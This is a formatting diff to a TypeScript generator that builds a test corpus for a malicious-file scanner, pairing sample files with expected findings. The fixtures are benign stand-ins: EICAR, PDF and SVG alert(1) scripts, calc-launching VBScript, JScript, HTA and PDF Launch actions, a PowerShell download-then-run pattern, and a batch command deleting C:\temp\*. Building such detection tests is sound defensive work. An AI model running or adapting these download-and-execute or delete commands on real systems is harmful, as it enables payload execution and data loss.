@@ -39,7 +39,11 @@ export interface ZipItem {
 export async function zipOf(items: readonly ZipItem[]): Promise<Buffer> {
   const zip = new yazl.ZipFile();
   for (const item of items) {
-    zip.addBuffer(Buffer.from(item.data), item.name, { compress: !item.store, forceZip64Format: item.zip64 ?? false, mtime: new Date(2024, 0, 1) });
+    zip.addBuffer(Buffer.from(item.data), item.name, {
+      compress: !item.store,
+      forceZip64Format: item.zip64 ?? false,
+      mtime: new Date(2024, 0, 1),
+    });
   }
   // Zip64 for the archive too (end-of-central-directory record and locator), not only the entries.
   zip.end({ forceZip64Format: items.some((item) => item.zip64 === true), comment: '' });
@@ -91,7 +95,7 @@ function centralHeader(entry: HandEntry, name: Buffer, offset: number, compresse
   header.writeUInt32LE(compressedSize, 20);
   header.writeUInt32LE(entry.declaredSize, 24);
   header.writeUInt16LE(name.length, 28);
-  header.writeUInt32LE((entry.externalAttributes ?? (0o100644 << 16)) >>> 0, 38);
+  header.writeUInt32LE((entry.externalAttributes ?? 0o100644 << 16) >>> 0, 38);
   header.writeUInt32LE(offset, 42);
   return Buffer.concat([header, name]);
 }
@@ -175,7 +179,8 @@ const MAIN = {
 export async function ooxml(kind: keyof typeof MAIN, extraParts: readonly ZipItem[] = []): Promise<Buffer> {
   const [mainPart, mainType] = MAIN[kind];
   const overrides = [`<Override PartName="/${mainPart}" ContentType="${mainType}"/>`];
-  if (extraParts.some((part) => part.name.endsWith('vbaProject.bin'))) overrides.push(`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`);
+  if (extraParts.some((part) => part.name.endsWith('vbaProject.bin')))
+    overrides.push(`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`);
   const contentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides.join('')}</Types>`;
   const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
@@ -183,7 +188,12 @@ export async function ooxml(kind: keyof typeof MAIN, extraParts: readonly ZipIte
   const main = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><root xmlns="urn:x"><t>Service report 2024</t></root>`;
   // An extra part named like the main part replaces it (a document body with fields, say).
   const body = extraParts.find((part) => part.name === mainPart);
-  return zipOf([{ name: '[Content_Types].xml', data: contentTypes }, { name: '_rels/.rels', data: rels }, body ?? { name: mainPart, data: main }, ...extraParts.filter((part) => part !== body)]);
+  return zipOf([
+    { name: '[Content_Types].xml', data: contentTypes },
+    { name: '_rels/.rels', data: rels },
+    body ?? { name: mainPart, data: main },
+    ...extraParts.filter((part) => part !== body),
+  ]);
 }
 
 /** A compound file with the given streams ("/Macros/VBA/_VBA_PROJECT" makes the storages on the way). */
@@ -234,7 +244,10 @@ export function pptRecord(version: number, instance: number, type: number, data:
 
 /** A legacy PowerPoint file whose "PowerPoint Document" stream holds the given records inside a DocumentContainer. */
 export function powerPointOf(records: readonly Buffer[]): Buffer {
-  return compoundFile({ '/PowerPoint Document': Buffer.concat([Buffer.alloc(64), pptRecord(0xf, 0, 0x03e8, Buffer.concat(records))]), '/Current User': Buffer.alloc(32) });
+  return compoundFile({
+    '/PowerPoint Document': Buffer.concat([Buffer.alloc(64), pptRecord(0xf, 0, 0x03e8, Buffer.concat(records))]),
+    '/Current User': Buffer.alloc(32),
+  });
 }
 
 /** An Outlook message with one attachment (data and long file name). */
@@ -260,7 +273,10 @@ export function pdfOf(bodies: readonly (string | Buffer)[], rootRef = '1 0 R'): 
     parts.push(object);
     length += object.length;
   });
-  const xref = [`xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`, ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)].join('');
+  const xref = [
+    `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`,
+    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`),
+  ].join('');
   parts.push(Buffer.from(`${xref}trailer\n<< /Size ${bodies.length + 1} /Root ${rootRef} >>\nstartxref\n${length}\n%%EOF\n`));
   return Buffer.concat(parts);
 }
@@ -271,7 +287,11 @@ export function pdfStream(dictionary: string, data: Buffer | string): Buffer {
   return Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
 }
 
-const PAGES = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];
+const PAGES = [
+  '<< /Type /Catalog /Pages 2 0 R >>',
+  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
+];
 
 /** Bytes that look like compressed data and happen to contain "/JS " and "/AA " (as random data does, now and then). */
 function opaqueBytesWithActiveLookingNames(): Buffer {
@@ -298,20 +318,37 @@ export const PDFS: Readonly<Record<string, { bytes: () => Buffer; findings: Find
         '<< /Type /Catalog /Pages 2 0 R >>',
         '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
         '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im0 5 0 R >> >> >>',
-        pdfStream('/Filter /FlateDecode', zlib.deflateSync('BT /F1 12 Tf 72 720 Td (Service report) Tj ET q 100 0 0 100 72 500 cm /Im0 Do Q')),
-        pdfStream('/Type /XObject /Subtype /Image /Width 64 /Height 64 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode', opaqueBytesWithActiveLookingNames()),
+        pdfStream(
+          '/Filter /FlateDecode',
+          zlib.deflateSync('BT /F1 12 Tf 72 720 Td (Service report) Tj ET q 100 0 0 100 72 500 cm /Im0 Do Q'),
+        ),
+        pdfStream(
+          '/Type /XObject /Subtype /Image /Width 64 /Height 64 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode',
+          opaqueBytesWithActiveLookingNames(),
+        ),
       ]),
     findings: [],
   },
   'clean-indirect-length.pdf': {
     bytes: () => {
       const data = opaqueBytesWithActiveLookingNames();
-      return pdfOf([...PAGES, Buffer.concat([Buffer.from('<< /Type /XObject /Subtype /Image /Length 5 0 R >>\nstream\n'), data, Buffer.from('\nendstream')]), String(data.length)]);
+      return pdfOf([
+        ...PAGES,
+        Buffer.concat([Buffer.from('<< /Type /XObject /Subtype /Image /Length 5 0 R >>\nstream\n'), data, Buffer.from('\nendstream')]),
+        String(data.length),
+      ]);
     },
     findings: [],
   },
   'javascript.pdf': {
-    bytes: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>', PAGES[1]!, PAGES[2]!, '<< /Names [(init) 5 0 R] >>', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']),
+    bytes: () =>
+      pdfOf([
+        '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>',
+        PAGES[1]!,
+        PAGES[2]!,
+        '<< /Names [(init) 5 0 R] >>',
+        '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
+      ]),
     findings: ['PDF_JAVASCRIPT'],
   },
   'open-action.pdf': {
@@ -319,11 +356,18 @@ export const PDFS: Readonly<Record<string, { bytes: () => Buffer; findings: Find
     findings: ['PDF_AUTO_ACTION'],
   },
   'additional-actions.pdf': {
-    bytes: () => pdfOf([PAGES[0]!, PAGES[1]!, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>']),
+    bytes: () =>
+      pdfOf([PAGES[0]!, PAGES[1]!, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>']),
     findings: ['PDF_AUTO_ACTION'],
   },
   'launch.pdf': {
-    bytes: () => pdfOf([PAGES[0]!, PAGES[1]!, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>', '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>']),
+    bytes: () =>
+      pdfOf([
+        PAGES[0]!,
+        PAGES[1]!,
+        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
+        '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>',
+      ]),
     findings: ['PDF_LAUNCH'],
   },
   'embedded-file.pdf': {
@@ -339,7 +383,14 @@ export const PDFS: Readonly<Record<string, { bytes: () => Buffer; findings: Find
     findings: ['PDF_EMBEDDED_FILE'],
   },
   'escaped-name.pdf': {
-    bytes: () => pdfOf(['<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>', PAGES[1]!, PAGES[2]!, '<< /Names [(x) 5 0 R] >>', '<< /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>']),
+    bytes: () =>
+      pdfOf([
+        '<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>',
+        PAGES[1]!,
+        PAGES[2]!,
+        '<< /Names [(x) 5 0 R] >>',
+        '<< /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>',
+      ]),
     findings: ['PDF_JAVASCRIPT'],
   },
   'object-stream.pdf': {
@@ -364,12 +415,16 @@ export const PDFS: Readonly<Record<string, { bytes: () => Buffer; findings: Find
         '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true >>',
         PAGES[1]!,
         PAGES[2]!,
-        pdfStream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'),
+        pdfStream(
+          '',
+          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>',
+        ),
       ]),
     findings: ['PDF_XFA'],
   },
   'broken-object-stream.pdf': {
-    bytes: () => pdfOf([...PAGES, pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('this is not deflate data at all'))]),
+    bytes: () =>
+      pdfOf([...PAGES, pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('this is not deflate data at all'))]),
     findings: ['PDF_UNPARSEABLE_STREAM'],
   },
 };
@@ -391,7 +446,12 @@ export function png(): Buffer {
   header.writeUInt32BE(1, 4);
   header[8] = 8;
   header[9] = 0;
-  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), pngChunk('IHDR', header), pngChunk('IDAT', zlib.deflateSync(Buffer.from([0, 0x80]))), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    Buffer.from('89504e470d0a1a0a', 'hex'),
+    pngChunk('IHDR', header),
+    pngChunk('IDAT', zlib.deflateSync(Buffer.from([0, 0x80]))),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 export function jpeg(): Buffer {
@@ -509,7 +569,13 @@ export function tarOf(items: readonly { name: string; data?: Buffer | string; ty
     header.write('0000000\0', 108, 'latin1');
     header.write('0000000\0', 116, 'latin1');
     header.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
-    header.write(`${Math.floor(Date.UTC(2024, 0, 1) / 1000).toString(8).padStart(11, '0')}\0`, 136, 'latin1');
+    header.write(
+      `${Math.floor(Date.UTC(2024, 0, 1) / 1000)
+        .toString(8)
+        .padStart(11, '0')}\0`,
+      136,
+      'latin1',
+    );
     header.write(item.type ?? '0', 156, 'latin1');
     if (item.linkname) header.write(item.linkname, 157, 100, 'utf8');
     header.write('ustar\u000000', 257, 'latin1');
@@ -536,7 +602,12 @@ export function isoImage(files: readonly { name: string; data: Buffer | string }
     if (type === 1) sector.write('INVOICE'.padEnd(32, ' '), 40, 'latin1');
     return sector;
   };
-  return Buffer.concat([Buffer.alloc(0x8000), descriptor(1), descriptor(255), ...files.flatMap((file) => [Buffer.from(file.name), Buffer.from(file.data)])]);
+  return Buffer.concat([
+    Buffer.alloc(0x8000),
+    descriptor(1),
+    descriptor(255),
+    ...files.flatMap((file) => [Buffer.from(file.name), Buffer.from(file.data)]),
+  ]);
 }
 
 /** The 512-byte VHD footer ("conectix" cookie, fixed disk type 2). */
@@ -621,7 +692,10 @@ const OFFICE_RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/20
 
 /** A .rels part with the given relationships. */
 export function relsPart(relationships: readonly { id: string; type: string; target: string; external?: boolean }[]): string {
-  const items = relationships.map((r) => `<Relationship Id="${r.id}" Type="${OFFICE_RELATIONSHIP}/${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`);
+  const items = relationships.map(
+    (r) =>
+      `<Relationship Id="${r.id}" Type="${OFFICE_RELATIONSHIP}/${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`,
+  );
   return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${RELATIONSHIPS_NS}">${items.join('')}</Relationships>`;
 }
 
@@ -632,13 +706,23 @@ export function olePackage(fileName: string, data: Buffer | string): Buffer {
   const path = Buffer.from(`C:\\Users\\x\\${fileName}\0`, 'latin1');
   const size = Buffer.alloc(4);
   size.writeUInt32LE(payload.length);
-  const body = Buffer.concat([Buffer.from([2, 0]), label, path, Buffer.from([0, 0, 3, 0]), Buffer.alloc(4, path.length), path, size, payload]);
+  const body = Buffer.concat([
+    Buffer.from([2, 0]),
+    label,
+    path,
+    Buffer.from([0, 0, 3, 0]),
+    Buffer.alloc(4, path.length),
+    path,
+    size,
+    payload,
+  ]);
   const total = Buffer.alloc(4);
   total.writeUInt32LE(body.length);
   return compoundFile({ '/\u0001Ole10Native': Buffer.concat([total, body]) });
 }
 
-const HTA = '<html><head><HTA:APPLICATION ID="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>';
+const HTA =
+  '<html><head><HTA:APPLICATION ID="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>';
 
 /** A legacy PowerPoint file whose VBAInfoAtom says fHasMacros ([MS-PPT] 2.4.16: the project itself is compressed elsewhere in the stream). */
 export function powerPointWithMacros(hasMacros: boolean): Buffer {
@@ -653,7 +737,10 @@ export function powerPointWithMacros(hasMacros: boolean): Buffer {
 export function powerPointWithObject(object: Buffer): Buffer {
   const size = Buffer.alloc(4);
   size.writeUInt32LE(object.length);
-  return powerPointOf([pptRecord(0xf, 0, 0x0409, Buffer.alloc(0)), pptRecord(0, 1, 0x1011, Buffer.concat([size, zlib.deflateSync(object)]))]);
+  return powerPointOf([
+    pptRecord(0xf, 0, 0x0409, Buffer.alloc(0)),
+    pptRecord(0, 1, 0x1011, Buffer.concat([size, zlib.deflateSync(object)])),
+  ]);
 }
 
 /** A legacy PowerPoint file with a shape whose click runs a program (InteractiveInfoAtom, action II_RunProgramAction). */
@@ -667,7 +754,16 @@ export function powerPointRunProgram(): Buffer {
 export function powerPointHyperlink(target: string): Buffer {
   const id = Buffer.alloc(4);
   id.writeUInt32LE(1);
-  const hyperlink = pptRecord(0xf, 0, 0x0fd7, Buffer.concat([pptRecord(0, 0, 0x0fd3, id), pptRecord(0, 0, 0x0fba, Buffer.from('Manual', 'utf16le')), pptRecord(0, 1, 0x0fba, Buffer.from(target, 'utf16le'))]));
+  const hyperlink = pptRecord(
+    0xf,
+    0,
+    0x0fd7,
+    Buffer.concat([
+      pptRecord(0, 0, 0x0fd3, id),
+      pptRecord(0, 0, 0x0fba, Buffer.from('Manual', 'utf16le')),
+      pptRecord(0, 1, 0x0fba, Buffer.from(target, 'utf16le')),
+    ]),
+  );
   return powerPointOf([pptRecord(0xf, 0, 0x0409, hyperlink)]);
 }
 
@@ -683,7 +779,10 @@ export function wordWithTemplate(template: string): Buffer {
   document.writeUInt16LE(22, 62);
   document.writeUInt16LE(93, 152);
   const strings = Array.from({ length: 18 }, (_, index) => (index === 1 ? template : ''));
-  const sttb = Buffer.concat([Buffer.from([0xff, 0xff, strings.length, 0, 0, 0]), ...strings.map((text) => Buffer.concat([Buffer.from([text.length & 0xff, text.length >> 8]), Buffer.from(text, 'utf16le')]))]);
+  const sttb = Buffer.concat([
+    Buffer.from([0xff, 0xff, strings.length, 0, 0, 0]),
+    ...strings.map((text) => Buffer.concat([Buffer.from([text.length & 0xff, text.length >> 8]), Buffer.from(text, 'utf16le')])),
+  ]);
   const table = Buffer.concat([Buffer.alloc(64), sttb]);
   document.writeUInt32LE(64, 154 + 32 * 8);
   document.writeUInt32LE(sttb.length, 154 + 32 * 8 + 4);
@@ -702,8 +801,10 @@ const CLEAN_TEXT = 'Service log\nDevice: CT-7 serial 12345\nAll checks passed.\n
 const CLEAN_CSV = 'date,device,result\n2024-01-01,CT-7,ok\n2024-01-02,MR-3,ok\n';
 const CLEAN_XML = '<?xml version="1.0"?>\n<report><device>CT-7</device><result>ok</result></report>\n';
 const CLEAN_JSON = '{"device":"CT-7","checks":[1,2,3],"ok":true}\n';
-const CLEAN_HTML = '<!DOCTYPE html>\n<html><head><title>Report</title></head><body><p>All checks passed. Contact: online support.</p></body></html>\n';
-const CLEAN_SVG = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="blue"/></svg>\n';
+const CLEAN_HTML =
+  '<!DOCTYPE html>\n<html><head><title>Report</title></head><body><p>All checks passed. Contact: online support.</p></body></html>\n';
+const CLEAN_SVG =
+  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="blue"/></svg>\n';
 
 export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   const entries: CorpusEntry[] = [];
@@ -719,36 +820,81 @@ export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   await add('eicar/eicar.txt', EICAR, { type: 'txt', findings: [] });
   await add('eicar/report.pdf', EICAR, { type: 'txt', findings: ['EXTENSION_MISMATCH'] });
   await add('eicar/eicar.zip', eicarZip, { type: 'zip', findings: ['EXTENSION_MISMATCH'], innerTypes: ['txt'] });
-  await add('eicar/eicar-nested.zip', await zipOf([{ name: 'inner.zip', data: eicarZip }]), { type: 'zip', findings: ['EXTENSION_MISMATCH'], innerTypes: ['zip', 'txt'] });
+  await add('eicar/eicar-nested.zip', await zipOf([{ name: 'inner.zip', data: eicarZip }]), {
+    type: 'zip',
+    findings: ['EXTENSION_MISMATCH'],
+    innerTypes: ['zip', 'txt'],
+  });
 
   // Office Open XML.
   const vba = { name: 'word/vbaProject.bin', data: compoundFile({ '/VBA/_VBA_PROJECT': 'x', '/VBA/dir': 'y' }) };
   const docm = await ooxml('docm', [vba]);
   await add('office/macro.docm', docm, { type: 'docm', findings: ['OFFICE_MACRO'] });
   await add('office/macro-renamed.docx', docm, { type: 'docm', findings: ['EXTENSION_MISMATCH', 'OFFICE_MACRO'] });
-  await add('office/activex.xlsx', await ooxml('xlsx', [{ name: 'xl/activeX/activeX1.xml', data: '<ax:ocx xmlns:ax="urn:x"/>' }]), { type: 'xlsx', findings: ['OFFICE_ACTIVEX'] });
-  await add('office/ole-object.docx', await ooxml('docx', [{ name: 'word/embeddings/oleObject1.bin', data: compoundFile({ '/\u0001Ole10Native': 'payload' }) }]), { type: 'docx', findings: ['OFFICE_EMBEDDED_OBJECT'] });
-  await add('office/embedded-xlsm.docx', await ooxml('docx', [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsm', data: await ooxml('xlsm', [{ name: 'xl/vbaProject.bin', data: 'vba' }]) }]), {
-    type: 'docx',
-    findings: ['OFFICE_MACRO'],
-    innerTypes: ['xlsm'],
+  await add('office/activex.xlsx', await ooxml('xlsx', [{ name: 'xl/activeX/activeX1.xml', data: '<ax:ocx xmlns:ax="urn:x"/>' }]), {
+    type: 'xlsx',
+    findings: ['OFFICE_ACTIVEX'],
   });
-  const odt = (parts: readonly ZipItem[]) => zipOf([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', store: true }, { name: 'content.xml', data: '<office:document-content/>' }, ...parts]);
-  await add('office/macro.odt', await odt([{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }]), { type: 'odt', findings: ['OFFICE_MACRO'] });
+  await add(
+    'office/ole-object.docx',
+    await ooxml('docx', [{ name: 'word/embeddings/oleObject1.bin', data: compoundFile({ '/\u0001Ole10Native': 'payload' }) }]),
+    { type: 'docx', findings: ['OFFICE_EMBEDDED_OBJECT'] },
+  );
+  await add(
+    'office/embedded-xlsm.docx',
+    await ooxml('docx', [
+      { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsm', data: await ooxml('xlsm', [{ name: 'xl/vbaProject.bin', data: 'vba' }]) },
+    ]),
+    {
+      type: 'docx',
+      findings: ['OFFICE_MACRO'],
+      innerTypes: ['xlsm'],
+    },
+  );
+  const odt = (parts: readonly ZipItem[]) =>
+    zipOf([
+      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', store: true },
+      { name: 'content.xml', data: '<office:document-content/>' },
+      ...parts,
+    ]);
+  await add('office/macro.odt', await odt([{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }]), {
+    type: 'odt',
+    findings: ['OFFICE_MACRO'],
+  });
   await add('office/clean.odt', await odt([]), { type: 'odt', findings: [] });
   await add('office/clean.docx', await ooxml('docx'), { type: 'docx', findings: [] });
   await add('office/clean.xlsx', await ooxml('xlsx'), { type: 'xlsx', findings: [] });
   await add('office/clean.pptx', await ooxml('pptx'), { type: 'pptx', findings: [] });
 
   // Legacy OLE.
-  await add('office/macro.doc', compoundFile({ '/WordDocument': Buffer.alloc(512), '/Macros/VBA/_VBA_PROJECT': 'x', '/Macros/VBA/dir': 'y' }), { type: 'doc', findings: ['OFFICE_MACRO'] });
-  await add('office/clean.doc', compoundFile({ '/WordDocument': Buffer.alloc(512), '/1Table': Buffer.alloc(64) }), { type: 'doc', findings: [] });
-  await add('office/embedded.doc', compoundFile({ '/WordDocument': Buffer.alloc(512), '/ObjectPool/_1234/\u0001Ole10Native': 'payload' }), { type: 'doc', findings: ['OFFICE_EMBEDDED_OBJECT'] });
+  await add(
+    'office/macro.doc',
+    compoundFile({ '/WordDocument': Buffer.alloc(512), '/Macros/VBA/_VBA_PROJECT': 'x', '/Macros/VBA/dir': 'y' }),
+    { type: 'doc', findings: ['OFFICE_MACRO'] },
+  );
+  await add('office/clean.doc', compoundFile({ '/WordDocument': Buffer.alloc(512), '/1Table': Buffer.alloc(64) }), {
+    type: 'doc',
+    findings: [],
+  });
+  await add('office/embedded.doc', compoundFile({ '/WordDocument': Buffer.alloc(512), '/ObjectPool/_1234/\u0001Ole10Native': 'payload' }), {
+    type: 'doc',
+    findings: ['OFFICE_EMBEDDED_OBJECT'],
+  });
   await add('office/excel4-macro.xls', compoundFile({ '/Workbook': biffWorkbook(1) }), { type: 'xls', findings: ['OFFICE_MACRO'] });
   await add('office/clean.xls', compoundFile({ '/Workbook': biffWorkbook(0) }), { type: 'xls', findings: [] });
-  await add('office/installer.msi', compoundFile({ '/\u4840\u3f3f\u4577': Buffer.alloc(64) }, '84100c0000000000c000000000000046'), { type: 'msi', findings: ['EXECUTABLE'] });
-  await add('office/protected.docx', compoundFile({ '/EncryptionInfo': Buffer.alloc(64), '/EncryptedPackage': Buffer.alloc(256) }), { type: 'encrypted-office', findings: ['ARCHIVE_ENCRYPTED'] });
-  await add('office/attachment.msg', outlookMessage('invoice.pdf', portableExecutable()), { type: 'msg', findings: ['EXECUTABLE', 'EXTENSION_MISMATCH'], innerTypes: ['pe'] });
+  await add('office/installer.msi', compoundFile({ '/\u4840\u3f3f\u4577': Buffer.alloc(64) }, '84100c0000000000c000000000000046'), {
+    type: 'msi',
+    findings: ['EXECUTABLE'],
+  });
+  await add('office/protected.docx', compoundFile({ '/EncryptionInfo': Buffer.alloc(64), '/EncryptedPackage': Buffer.alloc(256) }), {
+    type: 'encrypted-office',
+    findings: ['ARCHIVE_ENCRYPTED'],
+  });
+  await add('office/attachment.msg', outlookMessage('invoice.pdf', portableExecutable()), {
+    type: 'msg',
+    findings: ['EXECUTABLE', 'EXTENSION_MISMATCH'],
+    innerTypes: ['pe'],
+  });
 
   // PDF.
   for (const [name, pdf] of Object.entries(PDFS)) await add(`pdf/${name}`, pdf.bytes(), { type: 'pdf', findings: pdf.findings });
@@ -756,11 +902,28 @@ export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   // HTML and SVG.
   await add('web/script.html', '<html><body><script>alert(1)</script></body></html>', { type: 'html', findings: ['HTML_SCRIPT'] });
   await add('web/onload.html', '<html><body onload="go()"><p>x</p></body></html>', { type: 'html', findings: ['HTML_SCRIPT'] });
-  await add('web/javascript-url.htm', '<html><body><a href="jav&#x61;script:alert(1)">x</a></body></html>', { type: 'html', findings: ['HTML_SCRIPT'] });
-  await add('web/iframe.html', '<!DOCTYPE html><html><body><iframe src="https://example.invalid/"></iframe></body></html>', { type: 'html', findings: ['HTML_SCRIPT'] });
-  await add('web/script.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', { type: 'svg', findings: ['SVG_SCRIPT'] });
-  await add('web/onclick.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect onclick="alert(1)" width="5" height="5"/></svg>', { type: 'svg', findings: ['SVG_SCRIPT'] });
-  await add('web/foreign-object.svg', '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>', { type: 'svg', findings: ['SVG_SCRIPT'] });
+  await add('web/javascript-url.htm', '<html><body><a href="jav&#x61;script:alert(1)">x</a></body></html>', {
+    type: 'html',
+    findings: ['HTML_SCRIPT'],
+  });
+  await add('web/iframe.html', '<!DOCTYPE html><html><body><iframe src="https://example.invalid/"></iframe></body></html>', {
+    type: 'html',
+    findings: ['HTML_SCRIPT'],
+  });
+  await add('web/script.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', {
+    type: 'svg',
+    findings: ['SVG_SCRIPT'],
+  });
+  await add(
+    'web/onclick.svg',
+    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect onclick="alert(1)" width="5" height="5"/></svg>',
+    { type: 'svg', findings: ['SVG_SCRIPT'] },
+  );
+  await add(
+    'web/foreign-object.svg',
+    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>',
+    { type: 'svg', findings: ['SVG_SCRIPT'] },
+  );
   await add('web/clean.html', CLEAN_HTML, { type: 'html', findings: [] });
   await add('web/clean.svg', CLEAN_SVG, { type: 'svg', findings: [] });
   await add('web/app.hta', '<html><head><HTA:APPLICATION ID="x"/></head><body>hi</body></html>', { type: 'script', findings: ['SCRIPT'] });
@@ -783,21 +946,59 @@ export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   await add('scripts/run.vbs', 'MsgBox "hello"\n', { type: 'script', findings: ['SCRIPT'] });
   await add('scripts/run.js', '{"looks":"like json"}', { type: 'script', findings: ['SCRIPT'] });
   await add('scripts/run.sh', '#!/bin/sh\necho hello\n', { type: 'script', findings: ['SCRIPT'] });
-  await add('scripts/shebang.txt', '#!/usr/bin/env python3\nprint("hello")\n', { type: 'script', findings: ['EXTENSION_MISMATCH', 'SCRIPT'] });
+  await add('scripts/shebang.txt', '#!/usr/bin/env python3\nprint("hello")\n', {
+    type: 'script',
+    findings: ['EXTENSION_MISMATCH', 'SCRIPT'],
+  });
   await add('scripts/batch.txt', '@ECHO OFF\r\ndel /q C:\\temp\\*\r\n', { type: 'script', findings: ['EXTENSION_MISMATCH', 'SCRIPT'] });
-  await add('scripts/powershell.log', "$env:TEMP\nInvoke-WebRequest -Uri $u -OutFile x\nStart-Process x\n", { type: 'script', findings: ['EXTENSION_MISMATCH', 'SCRIPT'] });
-  await add('scripts/vbscript.txt', 'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n', { type: 'script', findings: ['EXTENSION_MISMATCH', 'SCRIPT'] });
-  await add('scripts/jscript.txt', 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc");\n', { type: 'script', findings: ['EXTENSION_MISMATCH', 'SCRIPT'] });
-  await add('scripts/settings.reg', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n', { type: 'script', findings: ['SCRIPT'] });
+  await add('scripts/powershell.log', '$env:TEMP\nInvoke-WebRequest -Uri $u -OutFile x\nStart-Process x\n', {
+    type: 'script',
+    findings: ['EXTENSION_MISMATCH', 'SCRIPT'],
+  });
+  await add('scripts/vbscript.txt', 'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n', {
+    type: 'script',
+    findings: ['EXTENSION_MISMATCH', 'SCRIPT'],
+  });
+  await add('scripts/jscript.txt', 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc");\n', {
+    type: 'script',
+    findings: ['EXTENSION_MISMATCH', 'SCRIPT'],
+  });
+  await add('scripts/settings.reg', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n', {
+    type: 'script',
+    findings: ['SCRIPT'],
+  });
 
   // DICOM (CVE-2019-11687).
